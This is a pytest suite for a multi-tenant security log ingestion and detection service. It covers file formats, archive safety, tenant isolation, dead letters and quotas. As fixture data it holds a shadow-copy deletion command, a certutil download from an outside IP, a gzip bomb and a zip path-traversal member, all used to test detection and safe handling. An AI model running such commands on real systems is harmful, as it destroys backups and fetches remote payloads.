"""Carry files into a running house: rows, exit codes, reasons, tenants."""

import gzip
import re
import time
import zipfile
from itertools import count
from pathlib import Path

import pytest

from deploy.cli import run
from deploy.output import FAILED, PARTLY, WRONG_USE
from tests.deploy.bad_day import play
from tests.deploy.conftest import Place
from tests.shared import ROOT, shared_data

pytestmark = pytest.mark.slow
SAMPLES = ROOT / "tests" / "samples"
_NAME = b'{"class_uid": 4003, "time": 1714550401000, "query": {"hostname": "a.example"}}\n'
_numbers = count()


@pytest.fixture
def tenant(house: Place) -> str:
    name = f"t{next(_numbers)}"
    house.call("tenant", "create", name)
    return name


def test_files_become_rows_and_again_changes_nothing(house: Place, tenant: str) -> None:
    paths = [SAMPLES / "zeek_tsv" / "sample.log", SAMPLES / "cloudtrail" / "sample.json"]
    rows = house.ingest(tenant, *paths, code=PARTLY)
    assert {(r["file"], r["format"], r["events"], r["rejected"]) for r in rows} == {
        (str(paths[0]), "zeek_tsv", 12, 1),
        (str(paths[1]), "cloudtrail", 12, 0),
    }
    [reason] = [str(r["reason"]) for r in rows if r["rejected"]]
    assert re.fullmatch(r"record \d+: not the 22 fields of the header", reason)
    assert house.events(tenant) == (24, 24)
    assert sorted(map(str, house.ingest(tenant, *paths, code=PARTLY))) == sorted(map(str, rows))
    assert house.events(tenant) == (24, 24)


def test_a_capture_becomes_flows_and_names(house: Place, tenant: str) -> None:
    [row] = house.ingest(tenant, SAMPLES / "pcap" / "sample.pcap")
    assert (row["format"], row["events"], row["rejected"]) == ("pcap", 6, 0)
    assert house.events(tenant) == (6, 6)


def test_broken_files_are_named_and_the_others_go_on(
    house: Place, tenant: str, tmp_path: Path
) -> None:
    good = SAMPLES / "cloudtrail" / "sample.json"
    (tmp_path / "noise.bin").write_bytes(bytes(range(256)) * 8)
    (tmp_path / "bomb.gz").write_bytes(gzip.compress(_NAME + b"0" * (99 << 20)))
    (tmp_path / "broken.zip").write_bytes(b"PK\x03\x04 and then nothing")
    rows = house.ingest(tenant, tmp_path, tmp_path / "absent.log", good, code=PARTLY)
    reasons = {str(r["file"]).rpartition("/")[2]: str(r.get("reason", "")) for r in rows}
    assert set(reasons) == {"noise.bin", "bomb.gz!bomb", "broken.zip", "absent.log", "sample.json"}
    assert reasons.pop("sample.json") == ""
    assert all(reasons.values()), reasons
    assert "unfolds to more than 100 times its size" in reasons["bomb.gz!bomb"]


def test_members_of_archives_are_named_by_archive_and_member(
    house: Place, tenant: str, tmp_path: Path
) -> None:
    packed = tmp_path / "a.zip"
    with zipfile.ZipFile(packed, "w") as out:
        out.write(SAMPLES / "cloudtrail" / "sample.json", "deep/trail.json")
        out.writestr("../../out.json", "{}")
    rows = house.ingest(tenant, packed, code=PARTLY)
    assert {r["file"]: r["events"] for r in rows}[f"{packed}!deep/trail.json"] == 12
    assert not (tmp_path.parent / "out.json").exists()


def test_a_dry_run_needs_no_house_and_counts_the_same(place: Place) -> None:
    sample = SAMPLES / "cloudtrail" / "sample.json"
    [row] = place.call("ingest", str(sample), "--tenant", "any", "--dry-run")
    assert (row["format"], row["events"], row["rejected"]) == ("cloudtrail", 12, 0)
    assert not any(place.data.iterdir())


def test_wrong_use_is_two_and_an_unknown_tenant_is_one(house: Place) -> None:
    sample = SAMPLES / "cloudtrail" / "sample.json"
    assert run(["ingest", str(sample)]) == WRONG_USE
    assert run(["ingest", str(sample), "--tenant", "Not A Name"]) == WRONG_USE
    house.ingest("nobody", sample, code=FAILED)


def test_each_of_two_tenants_sees_exactly_its_own(
    house: Place, tenant: str, tmp_path: Path
) -> None:
    other = f"{tenant}-other"
    house.call("tenant", "create", other)
    mine, theirs = tmp_path / "mine.json", tmp_path / "theirs.json"
    mine.write_text(_process("vssadmin.exe Delete Shadows /All", "PC-MINE"))
    theirs.write_text(_process("certutil.exe -urlcache -f http://198.51.100.7/x x", "PC-THEIRS"))
    house.ingest(tenant, mine)
    house.ingest(other, theirs)
    for name, title in ((tenant, "Shadow copies"), (other, "Certutil")):
        [finding] = house.read(name, "/v1/findings")
        assert str(finding["title"]).startswith(title)
        [event] = house.read(name, "/v1/events", until="2024-05-02T00:00:00Z")
        assert str(event).count("PC-MINE" if name == other else "PC-THEIRS") == 0


def test_real_windows_logs_are_read_or_refused_with_a_reason(house: Place, tenant: str) -> None:
    logs = sorted(shared_data("evtx").rglob("*.evtx"), key=lambda p: p.stat().st_size)[:6]
    pack = min(shared_data("otrf").rglob("*.zip"), key=lambda p: p.stat().st_size)
    wire = min(shared_data("pcap").rglob("*.pcap*"), key=lambda p: p.stat().st_size)
    rows = _carried(house, tenant, [*logs, pack, wire])
    assert len(rows) >= 8
    assert all(r["events"] or r.get("reason") for r in rows), rows
    total = sum(int(str(r["events"])) for r in rows)
    assert house.events(tenant) == (total, total)


def test_a_bad_day_in_many_formats_is_found_out(house: Place) -> None:
    results = play(house.settings)
    assert [r for r in results if not r.is_whole()] == []
    findings = house.read("main", "/v1/findings", limit="200")
    assert len({f["rule_id"] for f in findings if f["detector"] == "sigma"}) >= 12
    assert "invoice_amount" in {f["detector"] for f in findings}


def test_refused_records_can_be_looked_at(house: Place, tenant: str) -> None:
    house.ingest(tenant, SAMPLES / "zeek_tsv" / "sample.log", code=PARTLY)
    found: list[dict[str, object]] = []
    for _ in range(100):  # the outbox tells the log a moment later
        found = house.call("topic", "dead-letters", "--tenant", tenant)
        if found:
            break
        time.sleep(0.1)
    [letter] = found
    assert letter["reason"] == "not the 22 fields of the header"
    assert str(letter["place"]).startswith("raw.events/")
    [counted] = house.call("topic", "dead-letters", "--by-reason", "--tenant", tenant)
    assert (counted["reason"], counted["count"]) == ("not the # fields of the header", 1)
    only = ("--tenant", tenant, "--letter", str(letter["letter_id"]))
    assert [house.call("topic", "retry", *only)[0]["retried"] for _ in range(2)] == [1, 0]
    topics = {row["topic"] for row in house.call("topic", "list")}
    assert {"raw.events", "dead-letter"} <= topics
    assert house.call("topic", "tail", "raw.events", "--count", "1")


def test_a_tenants_quota_is_set_shown_and_given_back(house: Place, tenant: str) -> None:
    told = [
        house.call("tenant", "quota", tenant, *words)[0]
        for words in ((), ("--bytes-s", "5000"), (), ("--usual",))
    ]
    assert [(row["bytes_s"], row["is_own"]) for row in told] == [
        *((0, False), (5000, True)),
        *((5000, True), (0, False)),
    ]
    house.call("tenant", "quota", tenant, "--bytes-s", "-1", code=WRONG_USE)


def test_accounts_and_tokens_are_made_and_listed(house: Place, tenant: str) -> None:
    [made] = house.call("user", "create", "ann", "--tenant", tenant, "--role", "analyst")
    assert len(str(made["password"])) >= 12
    assert [u["name"] for u in house.call("user", "list", "--tenant", tenant)] == ["ann"]
    assert tenant in {row["tenant"] for row in house.call("tenant", "list")}
    house.call("user", "create", "bob", "--tenant", tenant, "--role", "king", code=WRONG_USE)


def _process(words: str, host: str) -> str:
    image = "C:\\\\Windows\\\\System32\\\\" + words.split(maxsplit=1)[0]
    return (
        '{"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", '
        f'"SourceName": "Microsoft-Windows-Sysmon", "Hostname": "{host}", '
        f'"@timestamp": "2024-05-01T08:00:01Z", "Image": "{image}", "CommandLine": "{words}"}}\n'
    )


def _carried(house: Place, tenant: str, paths: list[Path]) -> list[dict[str, object]]:
    try:
        return house.ingest(tenant, *paths)
    except AssertionError:
        return house.ingest(tenant, *paths, code=PARTLY)
